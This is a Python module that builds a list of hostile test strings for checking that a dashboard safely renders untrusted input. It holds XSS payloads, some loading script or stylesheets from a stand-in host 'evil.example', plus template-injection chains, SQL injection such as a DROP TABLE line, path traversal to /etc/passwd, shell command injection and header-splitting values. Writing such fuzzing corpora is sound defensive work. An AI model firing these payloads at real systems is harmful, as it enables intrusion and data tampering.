"""Strings that have hurt dashboards: each tries to run a script, to break out of where it stands, or to mislead."""

from __future__ import annotations

from collections.abc import Iterator

CANARY = "hurt"  # what a script that runs would define
_RUN = f"{CANARY}=1;alert(1)"
_ELEMENTS = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>{0}</script>",
    "<img src=x onerror={0}>",
    "<img src=x onerror='{0}'/>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><set onbegin={0} attributename=x dur=1s>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<iframe src=javascript:{0}></iframe>",
    "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>",
    "<a href=javascript:{0}>click</a>",
    "<a href='java\tscript:{0}'>click</a>",
    "<form action=javascript:{0}><input type=submit>",
    "<button formaction=javascript:{0}>x</button>",
    "<input onfocus={0} autofocus>",
    "<select onfocus={0} autofocus>",
    "<textarea onfocus={0} autofocus>",
    "<details open ontoggle={0}>",
    "<video src=x onerror={0}>",
    "<audio src=x onerror={0}>",
    "<video><source onerror={0}>",
    "<marquee onstart={0}>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={0}>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{{background:url(//evil.example/x)}}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href=//evil.example/>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<x onpointerenter={0} style=position:fixed;inset:0>",
)
_BREAKS = (
    '"', "'", "`", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "</pre>", "</option></select>",
    "-->", "]]>", "</svg>", "</td></tr></table>", '" autofocus onfocus=', "</summary></details>", "\\\"", "</datalist>",
)  # fmt: skip
_EXPRESSIONS = (
    "{{{{7*7}}}}", "{{{{config}}}}", "{{% import os %}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "{{{{constructor.constructor('{0}')()}}}}",
    "{{{{''.__class__.__mro__[1].__subclasses__()}}}}", "{{{{ self.__init__.__globals__ }}}}", "{{0.__class__}}", "%(csrf)s", "%s%n%x",
    "';{0}//", '";{0}//', "`;{0}//", "${{{0}}}", "\\x3cscript\\x3e{0}", "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;img src=x onerror={0}&#62;", "%3Cscript%3E{0}%3C/script%3E", "+ADw-script+AD4-{0}",
    "javascript:{0}", "JaVaScRiPt:{0}", "data:text/html,<script>{0}</script>", "vbscript:{0}", "//evil.example", "https://evil.example",
    "__proto__", "constructor", "toString", "hasOwnProperty", "' OR 1=1 --", "'; DROP TABLE jobs; --", "1; SELECT pg_sleep(9)", "%' OR '1'='1",
    "../../../../etc/passwd", "..%2f..%2fetc", "file:///etc/passwd", "$(touch /tmp/hurt)", "`touch /tmp/hurt`", "| ls", "; id",
    "a\r\nset-cookie: hurt=1", "a\nLocation: //evil.example", "null", "undefined", "NaN", "true", "-1", "1e999", "0x10", "[]", "[object Object]",
)  # fmt: skip
_UNSEEN = (
    "\x00", "\x07", "\x08\x08", "\x1b[31mred", "\x1b]8;;//evil.example\x07x\x1b]8;;\x07", "\x9b31m", "\x7f", "\u202egnp.exe", "\u2066x\u2069",
    "\u200b\u200bzero", "\ufeffmark", "\u2028line", "\u2029paragraph", "a\u0300\u0301\u0302\u0303\u0304\u0305", "\ufffe", "\uffff", "\U000e0041\U000e0042",
    "\u00ad", "\u034f", "\u180e", "\u3164", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "𝕏" * 40, "ﷺ" * 30, "a" * 240, "ا" * 60, "漢" * 80, "\t\t\t", "    ", "\v\f",
)  # fmt: skip


def _strings() -> Iterator[str]:
    for element in _ELEMENTS:
        yield element.format(_RUN)
    for broken in _BREAKS:
        for element in (0, 4, 6, 19, 22):
            yield broken + _ELEMENTS[element].format(_RUN)
    for expression in _EXPRESSIONS:
        yield expression.format(_RUN)
    yield from _UNSEEN


STRINGS = list(dict.fromkeys(_strings()))


def packed(most: int) -> list[str]:
    """All of them, as few texts of at most so many characters."""
    texts = [""]
    for text in STRINGS:
        if len(texts[-1]) + len(text) > most:
            texts.append("")
        texts[-1] += text[:most]
    return texts
